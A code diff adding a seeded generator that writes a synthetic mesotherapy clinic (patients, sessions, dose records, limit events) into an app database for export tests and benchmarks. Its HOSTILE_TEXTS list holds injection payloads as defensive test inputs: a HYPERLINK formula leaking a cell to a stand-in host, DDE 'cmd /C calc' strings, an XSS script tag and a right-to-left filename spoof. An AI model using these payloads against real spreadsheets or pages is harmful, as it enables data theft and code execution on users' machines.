@@ -1,0 +1,320 @@
+// A synthetic clinic written straight into the real schema (the migrations of every area), for export
+// tests and the export benchmark. Default size is a busy year: 4 rooms (one gun each), 20 sessions a
+// room a day, 300 days, 200 shots a session = 24,000 sessions and 4.8 million dose records. Fast by
+// construction: one transaction, prepared statements, synchronous=OFF for this connection only (a
+// generator has nothing to lose to a power cut; the station itself never runs like that).
+// Deterministic for a given seed. Tests use a few days; `hostile` puts formula, HTML, very long and
+// odd-Unicode text into names, notes and reasons.
+import { MACHINE_VERSION, type SessionContext } from '../../electron/core/sessions/machine.js';
+import type { Db } from '../../electron/core/storage/db.js';
+import { ZONES } from '../../electron/contract/sessions.js';
+
+export interface ClinicOptions {
+  rooms?: number;
+  sessionsPerRoomPerDay?: number;
+  days?: number;
+  shotsPerSession?: number;
+  patients?: number;
+  clinicians?: number;
+  /** First clinic day, local midnight is used. */
+  startDate?: string;
+  seed?: number;
+  /** Put hostile text into the first patients' names and into notes and reasons. */
+  hostile?: boolean;
+  /** Leave the very last session in progress (the station allows one). */
+  lastInProgress?: boolean;
+  /** Dose records fired with no session armed, spread over the period. */
+  unattributedShots?: number;
+}
+
+export interface ClinicSummary {
+  sessions: number;
+  shots: number;
+  unattributedShots: number;
+  patients: number;
+  clinicians: { id: number; username: string }[];
+  guns: string[];
+  lots: { id: number; lotNumber: string; serumVersionId: number; expiry: string }[];
+  firstDay: string;
+  lastDay: string;
+  statuses: { signed: number; aborted: number; in_progress: number };
+}
+
+/** Strings no export may turn into a formula, markup, or a reordered line. */
+export const HOSTILE_TEXTS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  '+41 79 000 00 00',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '<script>alert("x")</script><img src=x onerror=alert(1)>',
+  'Ahmed \u202Egnp.exe\u202C Benali',
+  'Zero\u200Bwidth\u200D\uFEFFjoiner',
+  'Zoë 👩‍⚕️💉🧴 Ñandú',
+  'Z\u0351\u0359a\u0300\u0301\u0302l\u0353\u0354g\u0308o\u0310',
+  'Quote " comma , semicolon ; newline\nand\r\nCRLF',
+  'x'.repeat(10_000),
+] as const;
+
+/** A small fast PRNG (mulberry32): same seed, same clinic. */
+function prng(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const FIRST = ['Anna', 'Marco', 'Sofia', 'Luca', 'Giulia', 'Paolo', 'Elena', 'Jonas', 'Maria', 'Pierre', 'Chloé', 'Jürgen', 'Ines', 'Noah', 'Lea', 'Omar'];
+const LAST = ['Rossi', 'Bianchi', 'Müller', 'Dubois', 'García', 'Novak', 'Kowalski', 'Jensen', 'Silva', 'Nowak', 'Conti', 'Weber', 'Moreau', 'Lindqvist'];
+const MODES = ['papule', 'nappage', 'micropapule', 'retrograde'] as const;
+const FAULTS = ['occlusion', 'airInLine', 'reservoirLow', 'driveBlocked'] as const;
+
+function isoDay(ms: number): string {
+  const d = new Date(ms);
+  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
+}
+
+export function generateClinic(db: Db, opts: ClinicOptions = {}): ClinicSummary {
+  const rooms = opts.rooms ?? 4;
+  const perDay = opts.sessionsPerRoomPerDay ?? 20;
+  const days = opts.days ?? 300;
+  const shots = opts.shotsPerSession ?? 200;
+  const patientCount = opts.patients ?? Math.max(10, Math.round((rooms * perDay * days) / 12));
+  const clinicianCount = opts.clinicians ?? rooms * 2;
+  const rnd = prng(opts.seed ?? 1);
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
+  const [sy, sm, sd] = (opts.startDate ?? '2025-01-06').split('-').map(Number) as [number, number, number];
+  const nowIso = new Date(sy, sm - 1, sd).toISOString();
+
+  db.pragma('synchronous = OFF');
+  db.pragma('cache_size = -262144');
+  db.exec('BEGIN IMMEDIATE');
+  try {
+    // Staff. The hash is not a valid scrypt string: nobody can log in as a synthetic user.
+    const insUser = db.prepare(
+      `INSERT INTO users (username, display_name, role, password_hash, created_at, password_changed_at) VALUES (?, ?, ?, 'synthetic:no-login', ?, ?)`,
+    );
+    const clinicians: { id: number; username: string; display: string }[] = [];
+    for (let i = 0; i < clinicianCount; i++) {
+      const username = `clin${String(i + 1).padStart(2, '0')}`;
+      const display = `Dr. ${FIRST[i % FIRST.length]} ${LAST[(i * 3) % LAST.length]}`;
+      const r = insUser.run(username, display, 'clinician', nowIso, nowIso);
+      clinicians.push({ id: Number(r.lastInsertRowid), username, display });
+    }
+    const supervisorId = Number(insUser.run('supervisor', 'Dr. Sam Supervisor', 'clinician', nowIso, nowIso).lastInsertRowid);
+
+    // Patients; with `hostile`, the first ones carry the nasty strings as names.
+    const insPatient = db.prepare(`INSERT INTO patients (full_name, birth_date, clinic_id, sex, allergies, created_at, updated_at) VALUES (?, ?, ?, ?, '[]', ?, ?)`);
+    const patientIds: number[] = [];
+    for (let i = 0; i < patientCount; i++) {
+      const hostile = opts.hostile && i < HOSTILE_TEXTS.length ? HOSTILE_TEXTS[i]! : null;
+      const name = hostile ?? `${pick(FIRST)} ${pick(LAST)}`;
+      const birth = `${1950 + Math.floor(rnd() * 50)}-${String(1 + Math.floor(rnd() * 12)).padStart(2, '0')}-${String(1 + Math.floor(rnd() * 28)).padStart(2, '0')}`;
+      const r = insPatient.run(name, birth, hostile && i % 2 === 0 ? `=CL-${i}` : `CL-${String(i + 1).padStart(6, '0')}`, pick(['female', 'male', 'other']), nowIso, nowIso);
+      patientIds.push(Number(r.lastInsertRowid));
+    }
+
+    // Serums come from the seeded library (migration 201); lots are ours, two per serum version.
+    const versions = db.prepare('SELECT v.id, v.serum_id, v.name FROM serum_versions v ORDER BY v.id').all() as { id: number; serum_id: number; name: string }[];
+    if (versions.length === 0) throw new Error('the serum library is empty: migration 201 should have seeded it');
+    const insLot = db.prepare('INSERT INTO serum_lots (serum_id, lot_number, expiry_date, recorded_by_id, recorded_by_name, recorded_at) VALUES (?, ?, ?, ?, ?, ?)');
+    const lots: ClinicSummary['lots'] = [];
+    for (const v of versions)
+      for (let k = 0; k < 2; k++) {
+        const lotNumber = `LOT-${v.serum_id}${String.fromCharCode(65 + k)}-${2400 + v.id * 7 + k}`;
+        const expiry = `${sy + 2}-0${k + 3}-28`;
+        const r = insLot.run(v.serum_id, lotNumber, expiry, clinicians[0]!.id, clinicians[0]!.display, nowIso);
+        lots.push({ id: Number(r.lastInsertRowid), lotNumber, serumVersionId: v.id, expiry });
+      }
+
+    const guns = Array.from({ length: rooms }, (_, i) => `MG-${sy}-${String(1001 + i)}`);
+    const gunModels = ['MesoGun S2', 'MesoGun S2', 'MesoGun S3 Pro', 'MesoGun S2'];
+    const recordIds = new Map(guns.map((g) => [g, 0]));
+
+    const insSession = db.prepare(
+      `INSERT INTO clinical_sessions (id, patient_id, course_id, clinician_user_id, clinician_username, clinician_display_name, status, phase, step,
+         started_at, updated_at, locked_at, serum_version_id, lot_id, lot_number, gun_serial, machine_version, snapshot)
+       VALUES (?, ?, NULL, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
+    );
+    let lastSessionId = (db.prepare('SELECT coalesce(max(id), 0) FROM clinical_sessions').raw().get() as [number])[0];
+    const insSig = db.prepare('INSERT INTO session_signatures (session_id, user_id, username, display_name, meaning, signed_at) VALUES (?, ?, ?, ?, ?, ?)');
+    const insArm = db.prepare(
+      'INSERT INTO arm_windows (session_id, zone, gun_serial, after_record_id, through_record_id, armed_at, disarmed_at, disarm_reason) VALUES (?, ?, ?, ?, ?, ?, ?, ?)',
+    );
+    const insDose = db.prepare(
+      `INSERT INTO dose_records (gun_serial, record_id, session_id, arm_window_id, zone, serum_version_id, lot_id, lot_number, clinician_user_id,
+         unattributed_reason, gun_started_at_ms, gun_ended_at_ms, received_at_ms, committed_at_ms, commanded_nl, delivered_nl, depth_um,
+         entry_pct, dwell_pct, exit_pct, mode, fault, record_crc)
+       VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
+    );
+    const insLimit = db.prepare(
+      'INSERT INTO limit_events (session_id, at, kind, scope, zone, total_nl, limit_nl, reason, detail, user_id) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)',
+    );
+    const insAddendum = db.prepare('INSERT INTO session_addenda (session_id, at, user_id, username, text, reason) VALUES (?, ?, ?, ?, ?, ?)');
+
+    const total = rooms * perDay * days;
+    const unattributedEvery = opts.unattributedShots ? Math.max(1, Math.floor(total / opts.unattributedShots)) : 0;
+    let unattributed = 0;
+    let n = 0;
+    let shotCount = 0;
+    const statuses = { signed: 0, aborted: 0, in_progress: 0 };
+    const hostileText = (k: number) => (opts.hostile ? HOSTILE_TEXTS[k % HOSTILE_TEXTS.length]! : null);
+
+    for (let day = 0; day < days; day++) {
+      const midnight = new Date(sy, sm - 1, sd + day).getTime();
+      for (let slot = 0; slot < perDay; slot++)
+        for (let room = 0; room < rooms; room++) {
+          n++;
+          const last = n === total;
+          const status: 'locked' | 'aborted' | 'active' = last && opts.lastInProgress ? 'active' : rnd() < 0.05 ? 'aborted' : 'locked';
+          const gun = guns[room]!;
+          const clinician = clinicians[(room * 2 + (slot % 2)) % clinicians.length]!;
+          // Hostile clinics visit patients in turn, so every hostile name appears in a few sessions.
+          const patientId = opts.hostile ? patientIds[(n - 1) % patientIds.length]! : patientIds[Math.floor(rnd() * patientIds.length)]!;
+          const version = versions[n % versions.length]!;
+          const lot = lots.filter((l) => l.serumVersionId === version.id)[day % 60 < 30 ? 0 : 1]!;
+          const t0 = midnight + 8 * 3_600_000 + slot * 30 * 60_000 + Math.floor(rnd() * 120_000);
+          const steamStart = t0 + 60_000;
+          const steamEnd = steamStart + 600_000;
+          const massageEnd = steamEnd + 300_000 + (n % 7 === 0 ? 30_000 : 0);
+          const mesoStart = massageEnd + 120_000;
+          const interval = Math.floor((15 * 60_000) / shots);
+          const mesoEnd = mesoStart + shots * interval;
+          const closingAt = mesoEnd + 60_000;
+          const endAt = status === 'active' ? mesoEnd : closingAt + 120_000;
+          const ctx: SessionContext = {
+            sessionId: 0,
+            intake: { at: t0, notes: hostileText(n + 3) ?? (n % 11 === 0 ? 'patient reports mild itching after last session' : null), warnings: [] },
+            thermo: {
+              steam: { plannedMs: 600_000, startedAt: steamStart, endedAt: steamEnd, pauses: [] },
+              massage: { plannedMs: 300_000, startedAt: steamEnd, endedAt: massageEnd, pauses: n % 7 === 0 ? [{ at: steamEnd + 100_000, resumedAt: steamEnd + 130_000 }] : [] },
+              skipped: null,
+            },
+            serum: { serumVersionId: version.id, name: version.name, lotId: lot.id, lotNumber: lot.lotNumber, expiry: lot.expiry },
+            zoneTargetsNl: Object.fromEntries(ZONES.filter((z) => z !== 'occipital').map((z) => [z, 600_000])),
+            needleConfirmedAt: massageEnd + 30_000,
+            primedAt: massageEnd + 60_000,
+            gun: { serial: gun, model: gunModels[room % gunModels.length]!, firmware: `2.${room}.${day % 3}`, simulated: false },
+            profile: { doseNl: 20_000, entryPct: 0, dwellPct: 100, exitPct: 0, depthUm: 2_000, mode: 'papule', minIntervalMs: 500 },
+            zone: null,
+            armWindowId: null,
+            closing: status === 'active' ? null : { oilSerumApplied: true, aftercareGiven: status === 'locked' || n % 2 === 0, notes: hostileText(n) ?? 'no washing for 8 h, no sun for 48 h', at: closingAt },
+            abort: status === 'aborted' ? { reason: hostileText(n + 1) ?? 'patient felt faint', at: closingAt + 30_000, phase: 'closing' } : null,
+            signedAt: status === 'locked' ? endAt : null,
+          };
+          const phase = status === 'locked' ? 'locked' : status === 'aborted' ? 'aborted' : 'mesotherapy';
+          const snapshot = { status: status === 'active' ? 'active' : 'done', value: status === 'active' ? { mesotherapy: 'disarmed' } : phase, historyValue: {}, context: ctx, children: {} };
+          // The stored context names its session, so the id is chosen here rather than by SQLite.
+          const sessionId = ++lastSessionId;
+          insSession.run(
+              sessionId,
+              patientId,
+              clinician.id,
+              clinician.username,
+              clinician.display,
+              status,
+              phase,
+              status === 'active' ? 'disarmed' : phase,
+              t0,
+              endAt,
+              status === 'active' ? null : endAt,
+              version.id,
+              lot.id,
+              lot.lotNumber,
+              gun,
+              MACHINE_VERSION,
+              JSON.stringify({ ...snapshot, context: { ...ctx, sessionId } }),
+          );
+          if (status === 'locked') {
+            insSig.run(sessionId, clinician.id, clinician.username, clinician.display, 'performed', endAt - 60_000);
+            if (n % 5 === 0) insSig.run(sessionId, supervisorId, 'supervisor', 'Dr. Sam Supervisor', 'reviewed', endAt);
+          }
+          statuses[status === 'locked' ? 'signed' : status === 'aborted' ? 'aborted' : 'in_progress']++;
+
+          // Shots: split evenly over the 7 treated zones (occipital is spared), one arm window each.
+          const treated = ZONES.filter((z) => z !== 'occipital');
+          let fired = 0;
+          for (let zi = 0; zi < treated.length; zi++) {
+            const zone = treated[zi]!;
+            const inZone = Math.floor(shots / treated.length) + (zi < shots % treated.length ? 1 : 0);
+            const after = recordIds.get(gun)!;
+            const armedAt = mesoStart + fired * interval;
+            const armId = Number(insArm.run(sessionId, zone, gun, after, after + inZone, armedAt, armedAt + inZone * interval, 'zone done').lastInsertRowid);
+            for (let k = 0; k < inZone; k++) {
+              const recordId = recordIds.get(gun)! + 1;
+              recordIds.set(gun, recordId);
+              const started = mesoStart + fired * interval;
+              const fault = rnd() < 0.002 ? pick(FAULTS) : null;
+              const commanded = 20_000;
+              const delivered = fault ? Math.floor(commanded * rnd()) : commanded - 400 + Math.floor(rnd() * 800);
+              insDose.run(
+                gun,
+                recordId,
+                sessionId,
+                armId,
+                zone,
+                version.id,
+                lot.id,
+                lot.lotNumber,
+                clinician.id,
+                null,
+                started,
+                started + 300,
+                started + 340,
+                started + 345,
+                commanded,
+                delivered,
+                2_000 + (k % 3) * 100,
+                0,
+                100,
+                0,
+                MODES[n % 4 === 0 ? 1 : 0],
+                fault,
+                (recordId * 2654435761) >>> 0,
+              );
+              fired++;
+            }
+          }
+          shotCount += fired;
+          // Limit events: a soft stop and its override now and then, rarer hard stops and near misses.
+          if (n % 9 === 0) {
+            insLimit.run(sessionId, mesoStart + 60_000, 'soft_stop', 'zone', 'vertex', 600_000, 600_000, null, 'zone soft maximum reached', null);
+            insLimit.run(sessionId, mesoStart + 80_000, 'soft_ack', 'zone', 'vertex', 600_000, 600_000, hostileText(n + 2) ?? 'thin crown, per protocol', 'override acknowledged', clinician.id);
+          }
+          if (n % 97 === 0) insLimit.run(sessionId, mesoStart + 120_000, 'hard_stop', 'session', null, 4_000_000, 4_000_000, null, 'session hard maximum reached', null);
+          if (n % 53 === 0) insLimit.run(sessionId, mesoStart + 30_000, 'near_miss', 'shot', 'frontal', 40_000, 50_000, null, 'dose within 20 % of the soft maximum', null);
+          if (opts.hostile && n % 4 === 0) insAddendum.run(sessionId, endAt + 3_600_000, clinician.id, clinician.username, hostileText(n + 5)!, hostileText(n + 6)!);
+          if (unattributedEvery > 0 && n % unattributedEvery === 0) {
+            const recordId = recordIds.get(gun)! + 1;
+            recordIds.set(gun, recordId);
+            const at = endAt + 10_000;
+            insDose.run(gun, recordId, null, null, null, null, null, null, null, 'no session armed', at, at + 300, at + 340, at + 345, 20_000, 19_800, 2_000, 0, 100, 0, 'papule', null, recordId);
+            unattributed++;
+          }
+        }
+    }
+    db.exec('COMMIT');
+    return {
+      sessions: n,
+      shots: shotCount,
+      unattributedShots: unattributed,
+      patients: patientIds.length,
+      clinicians: clinicians.map(({ id, username }) => ({ id, username })),
+      guns,
+      lots,
+      firstDay: isoDay(new Date(sy, sm - 1, sd).getTime()),
+      lastDay: isoDay(new Date(sy, sm - 1, sd + days - 1).getTime()),
+      statuses,
+    };
+  } catch (e) {
+    if (db.inTransaction) db.exec('ROLLBACK');
+    throw e;
+  } finally {
+    db.pragma('synchronous = FULL');
+  }
+}
